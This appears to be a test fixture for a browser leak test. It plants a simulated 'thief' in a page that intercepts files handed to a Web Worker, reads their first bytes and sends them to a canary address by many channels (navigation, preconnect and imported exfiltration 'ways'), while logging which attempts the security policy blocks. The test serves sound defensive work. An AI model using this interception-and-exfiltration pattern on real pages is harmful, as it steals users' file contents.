// A thief in the page, for the leak test: the first bytes of what the page hands to its worker are also sent to the address
// after the # of the page's own, by every way a page has. It keeps account of what it tried and what was refused.

import { WAYS } from '../../../www/page/ways.js';

const TAKEN = 60;

const canary = location.hash.slice(1);
const thief = { tried: [], refused: [], text: null, leave: () => (location.href = `${canary}navigation?${encodeURIComponent(thief.text)}`) };
globalThis.thief = thief;

document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => thief.refused.push(effectiveDirective));

/** The worker is robbed too (worker.js beside this); its name tells it where to. */
globalThis.Worker = class extends Worker {
  constructor(url, options) {
    super(url, { ...options, name: canary });
    this.addEventListener('message', ({ data }) => data?.stolen && thief.tried.push('reader'));
  }

  postMessage(message, ...rest) {
    const file = message?.params?.input?.blob;
    if (file && thief.text === null) rob(file);
    return super.postMessage(message, ...rest);
  }
};

async function rob(file) {
  thief.text = await file.slice(0, TAKEN).text();
  for (const { name, go, lacks } of WAYS) {
    if (lacks?.()) continue;
    new Promise((start) => start(go(canary + name, thief.text))).catch(() => {});
    thief.tried.push(name);
  }
  // A connection opened ahead carries nothing but that it was opened.
  document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: canary }));
  thief.tried.push('preconnect');
}
